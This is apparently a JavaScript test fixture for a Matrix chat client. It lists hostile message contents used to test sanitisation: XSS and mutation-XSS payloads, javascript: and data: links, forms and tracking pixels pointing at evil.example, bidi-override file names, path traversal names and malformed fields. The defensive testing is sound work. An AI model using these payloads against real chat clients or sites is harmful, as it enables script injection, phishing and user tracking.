// What a hostile person may send. Used by the unit tests and by the scene in the browser.
const html = (formatted_body, body = "hostile") => ({ msgtype: "m.text", body, format: "org.matrix.custom.html", formatted_body });
const long = (text, count) => text.repeat(count);

/** HTML that must lose what is dangerous in it. */
export const HTML = {
    script: "<script>globalThis.owned = 1</script>after",
    handler: '<img src=x onerror="globalThis.owned = 1"><b onmouseover="globalThis.owned = 1" onclick=globalThis.owned=1>bold</b>',
    javascript: '<a href="javascript:globalThis.owned=1">press</a><a href="JaVaScRiPt&#58;globalThis.owned=1">press</a><a href="\u0001javascript:globalThis.owned=1">press</a>',
    data: '<a href="data:text/html,<script>globalThis.owned=1</script>">press</a><a href="vbscript:x">press</a><a href="blob:https://x/1">press</a><a href="file:///etc/passwd">press</a>',
    style: '<style>*{display:none}</style><div style="position:fixed;inset:0;background:red">over everything</div><span style="color:red">red</span>',
    svg: '<svg onload="globalThis.owned=1"><script>globalThis.owned=1</script><a xlink:href="javascript:globalThis.owned=1"><text>x</text></a><foreignObject><iframe src="javascript:globalThis.owned=1"></iframe></foreignObject></svg>',
    mathml: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.owned=1&gt;"></mglyph></table></mtext></math>',
    mutation: '<noscript><p title="</noscript><img src=x onerror=globalThis.owned=1>"></noscript><form><math><mtext></form><form><mglyph><style></math><img src onerror=globalThis.owned=1>',
    frames: '<iframe srcdoc="<script>parent.owned=1</script>"></iframe><object data="javascript:globalThis.owned=1"></object><embed src="x"><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
    forms: '<form action="https://evil.example"><input name="password" autofocus onfocus="globalThis.owned=1"><button formaction="javascript:globalThis.owned=1">Send</button></form><textarea><select>',
    clobber: '<a id="root" name="body">x</a><div id="app" class="msg own" data-theme="dark" role="alert" aria-live="assertive" tabindex="0">looks like a part of the client</div>',
    picture: '<img src="https://evil.example/pixel.png"><img src="mxc://evil/x"><picture><source srcset="https://evil.example/x"></picture><video src="https://evil.example/v" autoplay></video><audio autoplay src="https://evil.example/a"></audio>',
    deep: `${long("<blockquote>", 700)}deep${long("</blockquote>", 700)}`,
    wide: `<table><tr>${long("<td>x</td>", 400)}</tr></table>`,
    unclosed: "<b><i><u><blockquote><ul><li><details><summary>never closed",
    comments: "<!--><img src=x onerror=globalThis.owned=1>--><!-- <b> --!><script>globalThis.owned=1</script><![CDATA[<img onerror=1>]]>",
};

/** Links that say another thing than they do. */
export const LINKS = {
    otherHost: '<a href="https://evil.example/login">https://bank.example/login</a>',
    userinfo: '<a href="https://bank.example@evil.example/">https://bank.example</a>',
    pill: '<a href="https://matrix.to/#/@evil:localhost">Anna Meier</a> has approved it',
    pillOdd: '<a href="https://matrix.to/#/%40evil:localhost?x=<b>">@room</a> and <a href="https://matrix.to/#/@no one">Beat</a> and <a href="https://matrix.to/#/%E0%A4%A">x</a>',
    turned: '<a href="https://evil.example/\u202egpj.exe">photo\u202egpj.exe and photo&#8238;gpj.exe</a>',
};

const wrong = [null, 0, -1, 1e308, "", "x", [], [[]], {}, { a: {} }, true];
const FIELDS = ["msgtype", "body", "format", "formatted_body", "info", "file", "url", "filename", "m.mentions", "m.relates_to", "m.new_content", "geo_uri", "org.matrix.msc1767.audio", "org.matrix.msc3245.voice"];

/** Contents of messages. */
export const CONTENTS = {
    empty: {},
    ...Object.fromEntries(Object.entries({ ...HTML, ...LINKS }).map(([name, text]) => [`html ${name}`, html(text)])),
    ...Object.fromEntries(FIELDS.flatMap((field) => wrong.map((value, index) => [`${field} ${index}`, { msgtype: "m.text", body: "hostile", [field]: value }]))),
    ...Object.fromEntries(["m.image", "m.video", "m.audio", "m.file", "m.location", "m.sticker", "m.unknown"].flatMap((msgtype) => wrong.map((value, index) => [`${msgtype} ${index}`, { msgtype, body: value, filename: value, url: value, file: value, info: value, geo_uri: value }]))),
    hugeBody: { msgtype: "m.text", body: long("A very long word ", 3000) },
    hugeWord: { msgtype: "m.text", body: long("W", 50_000) },
    manyLines: { msgtype: "m.text", body: long("\n", 20_000) },
    marks: { msgtype: "m.text", body: `Z${long("\u0335\u0321\u0347", 2000)}algo` },
    turnedBody: { msgtype: "m.text", body: "invoice \u202efdp.exe\u202c \u2066\u2067x https://evil.example/\u202emoc.knab" },
    fakeSender: { msgtype: "m.text", body: "approved\n\nAnna Meier\n\u2028I agree\u2029" },
    emoteFake: { msgtype: "m.emote", body: "\u202eis not Anna Meier" },
    linkWithUser: { msgtype: "m.text", body: "see https://bank.example@evil.example/login and https://bank.example" },
    pathName: { msgtype: "m.file", body: "../../../etc/passwd", filename: "..\\..\\windows\\system32\\cmd.exe", url: "mxc://x/y", info: { size: -5, mimetype: "text/html" } },
    turnedName: { msgtype: "m.file", body: "photo\u202egpj.exe", url: "mxc://x/y", info: { size: Number.MAX_VALUE, mimetype: long("x", 5000) } },
    htmlAsPicture: { msgtype: "m.image", body: "page.png", url: "mxc://x/y", info: { mimetype: "text/html", w: 1e9, h: 1 } },
    svgAsPicture: { msgtype: "m.image", body: "x.svg", url: "mxc://x/y", info: { mimetype: "image/svg+xml", w: -3, h: "x", "xyz.amorgan.blurhash": "not a hash", thumbnail_url: "javascript:alert(1)" } },
    hugePicture: { msgtype: "m.image", body: "x.png", url: "mxc://x/y", info: { mimetype: "image/png", w: 1, h: 99_999_999 } },
    addressOutside: { msgtype: "m.image", body: "x.png", url: "https://evil.example/pixel.png", info: { mimetype: "image/png", thumbnail_url: "https://evil.example/t.png" } },
    badSecret: { msgtype: "m.image", body: "x.png", file: { url: "mxc://x/y", key: { k: 5 }, iv: [], hashes: "x" }, info: { mimetype: "image/png" } },
    longWave: { msgtype: "m.audio", body: "v.ogg", url: "mxc://x/y", info: { mimetype: "audio/ogg", duration: 1e300 }, "org.matrix.msc3245.voice": {}, "org.matrix.msc1767.audio": { waveform: Array.from({ length: 5000 }, () => "loud"), duration: -1 } },
    placeScript: { msgtype: "m.location", body: "<b>x</b>", geo_uri: "javascript:alert(1)" },
    placeFar: { msgtype: "m.location", body: "x", geo_uri: "geo:999,999" },
    selfReply: { msgtype: "m.text", body: "hostile", "m.relates_to": { "m.in_reply_to": { event_id: { toString: 1 } } } },
    threadOdd: { msgtype: "m.text", body: "hostile", "m.relates_to": { rel_type: "m.thread", event_id: 7, is_falling_back: "x" } },
    mentionsMany: { msgtype: "m.text", body: "hostile", "m.mentions": { user_ids: Array.from({ length: 5000 }, (_none, index) => index), room: "yes" } },
};

/** Reactions whose key is not an emoji. */
export const KEYS = ["\u202egnp.exe", long("x", 10_000), "<b>bold</b>", "\u200b", `a${long("\u0301", 500)}`, " ", "👍".repeat(300)];

/** Names of people. */
export const NAMES = ["Anna\u202eMeier", "\u200b\u200b", "You", long("N", 5000), `Z${long("\u0335", 300)}`, "<img src=x onerror=globalThis.owned=1>", "Anna\nMeier has left"];

/** Polls that are none. */
export const POLLS = [{}, { "m.poll": null }, { "org.matrix.msc3381.poll.start": { question: 1, answers: "x" } }, { "m.poll": { question: { "m.text": [{ body: long("Q", 100_000) }] }, max_selections: -1, answers: [{ "m.id": "a", "m.text": [{ body: "\u202ex" }] }] } }];
